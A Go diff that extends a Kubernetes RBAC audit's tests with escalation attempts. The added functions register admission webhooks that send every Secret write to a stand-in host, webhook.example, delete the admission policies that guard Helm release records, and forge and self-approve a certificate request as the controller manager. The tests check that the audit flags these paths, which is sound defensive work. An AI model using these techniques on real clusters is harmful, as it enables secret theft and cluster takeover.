@@ -2,6 +2,12 @@ package audit
 
 import (
 	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
 	"errors"
 	"fmt"
 	"net/http"
@@ -10,10 +16,12 @@ import (
 	"testing"
 	"time"
 
+	admissionv1 "k8s.io/api/admissionregistration/v1"
 	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
 	authorizationv1 "k8s.io/api/authorization/v1"
 	batchv1 "k8s.io/api/batch/v1"
+	certificatesv1 "k8s.io/api/certificates/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
@@ -233,6 +241,53 @@ func writeRole(ctx context.Context, a *actor) error {
 	return create(a.RbacV1().Roles(a.home).Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "made-by-outsider"}, Rules: rules("* *")}, dry))
 }
 
+// webhook makes one that is sent every Secret that is written.
+func webhook(ctx context.Context, a *actor) error {
+	none, url := admissionv1.SideEffectClassNone, "https://webhook.example/"
+	return create(a.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionv1.MutatingWebhookConfiguration{
+		ObjectMeta: metav1.ObjectMeta{Name: "made-by-outsider"},
+		Webhooks: []admissionv1.MutatingWebhook{{Name: "made.by.outsider", AdmissionReviewVersions: []string{"v1"}, SideEffects: &none, ClientConfig: admissionv1.WebhookClientConfig{URL: &url},
+			Rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{"*"}, Rule: admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}}}}}, dry))
+}
+
+// listenIn makes a webhook that changes nothing, and sees all.
+func listenIn(ctx context.Context, a *actor) error {
+	none, url := admissionv1.SideEffectClassNone, "https://webhook.example/"
+	return create(a.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionv1.ValidatingWebhookConfiguration{
+		ObjectMeta: metav1.ObjectMeta{Name: "made-by-outsider"},
+		Webhooks: []admissionv1.ValidatingWebhook{{Name: "made.by.outsider", AdmissionReviewVersions: []string{"v1"}, SideEffects: &none, ClientConfig: admissionv1.WebhookClientConfig{URL: &url},
+			Rules: []admissionv1.RuleWithOperations{{Operations: []admissionv1.OperationType{"*"}, Rule: admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}}}}}, dry))
+}
+
+// noPolicy takes away what holds Tillers to their release records.
+func noPolicy(resource string) try {
+	return func(ctx context.Context, a *actor) error {
+		return a.AdmissionregistrationV1().RESTClient().Delete().Resource(resource).Name("helm-tenant-records").
+			Body(&metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}}).Do(ctx).Error()
+	}
+}
+
+// certificate asks for one of the controller manager's and approves it.
+func certificate(ctx context.Context, a *actor) error {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return err
+	}
+	request, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: "system:kube-controller-manager"}}, key)
+	if err != nil {
+		return err
+	}
+	csr, err := a.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{ObjectMeta: metav1.ObjectMeta{GenerateName: "outsider-"},
+		Spec: certificatesv1.CertificateSigningRequestSpec{Request: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: request}),
+			SignerName: certificatesv1.KubeAPIServerClientSignerName, Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
+	if err != nil {
+		return err
+	}
+	defer a.w.root.CertificatesV1().CertificateSigningRequests().Delete(context.Background(), csr.Name, metav1.DeleteOptions{})
+	csr.Status.Conditions = []certificatesv1.CertificateSigningRequestCondition{{Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "x"}}
+	return create(a.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{DryRun: dry.DryRun}))
+}
+
 // way is a right that somebody is given, and whether it opens a path.
 type way struct {
 	// path is that of the audit's report, empty for a right that opens none.
@@ -326,6 +381,19 @@ var ways = []way{
 	{"", nil, []string{"patch namespaces outside"}, nil, "", patch("namespaces", "alpha-tiller", `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`)},
 	{"write-record", []string{"patch configmaps helm-tenant"}, nil, nil, "HT020", patch("configmaps", "helm-tenant", `{"data":{"x":"y"}}`)},
 	{"", []string{"get configmaps", "patch configmaps another"}, nil, nil, "", patch("configmaps", "helm-tenant", `{"data":{"x":"y"}}`)},
+	{"change-policy", nil, []string{"delete admission:validatingadmissionpolicybindings helm-tenant-records"}, nil, "HT020", noPolicy("validatingadmissionpolicybindings")},
+	{"change-policy", nil, []string{"delete admission:validatingadmissionpolicies"}, nil, "HT020", noPolicy("validatingadmissionpolicies")},
+	{"", nil, []string{"create,get,list admission:validatingadmissionpolicies,validatingadmissionpolicybindings", "update,delete admission:validatingadmissionpolicies another"}, nil, "", noPolicy("validatingadmissionpolicies")},
+	{"", []string{"delete admission:validatingadmissionpolicies"}, nil, nil, "", noPolicy("validatingadmissionpolicies")},
+	{"change-admission", nil, []string{"create admission:mutatingwebhookconfigurations"}, nil, "HT022", webhook},
+	{"change-admission", nil, []string{"create admission:validatingwebhookconfigurations"}, nil, "HT022", listenIn},
+	{"change-admission", nil, []string{"create admission:mutatingadmissionpolicies,mutatingadmissionpolicybindings"}, nil, "HT022", nil},
+	{"change-admission", nil, []string{"patch admission:mutatingadmissionpolicies"}, nil, "HT022", nil},
+	{"", nil, []string{"get,list,watch,delete admission:mutatingwebhookconfigurations", "create admission:mutatingadmissionpolicies"}, nil, "", webhook},
+	{"certificate", nil, []string{"create certs:certificatesigningrequests", "update certs:certificatesigningrequests/approval", "approve certs:signers kubernetes.io/kube-apiserver-client"}, nil, "HT016", certificate},
+	{"certificate", nil, []string{"create certs:certificatesigningrequests", "update certs:certificatesigningrequests/approval", "approve certs:signers kubernetes.io/*"}, nil, "HT016", certificate},
+	{"", nil, []string{"create certs:certificatesigningrequests", "update certs:certificatesigningrequests/approval", "sign certs:signers", "approve certs:signers example.com/mine"}, nil, "", certificate},
+	{"", nil, []string{"create certs:certificatesigningrequests", "approve certs:signers"}, nil, "", certificate},
 	// Tiller listens on its loopback: what the API server's proxy connects to is
 	// not there, whoever may use it.
 	{"", []string{"get,create pods/proxy", "get,create services/proxy"}, nil, nil, "", nil},
@@ -364,7 +432,7 @@ func TestWays(t *testing.T) {
 			case "":
 			default:
 				want = []string{way.want + " alpha user outsider"}
-				if strings.HasSuffix(way.path, "-administrator") || way.path == "node-proxy" || slices.ContainsFunc(way.wide, func(rule string) bool { return strings.Contains(rule, "clusterrolebindings") }) {
+				if strings.HasSuffix(way.path, "-administrator") || slices.Contains([]string{"node-proxy", "change-policy", "change-admission", "certificate"}, way.path) || slices.ContainsFunc(way.wide, func(rule string) bool { return strings.Contains(rule, "clusterrolebindings") }) {
 					want = []string{way.want + "  user outsider"} // they lead to every deployer
 				}
 			}
@@ -431,7 +499,7 @@ func TestEveryPathIsGone(t *testing.T) {
 			}
 		}
 	}
-	if paths < 28 {
+	if paths < 31 {
 		t.Errorf("who may do everything has %d paths", paths)
 	}
 }
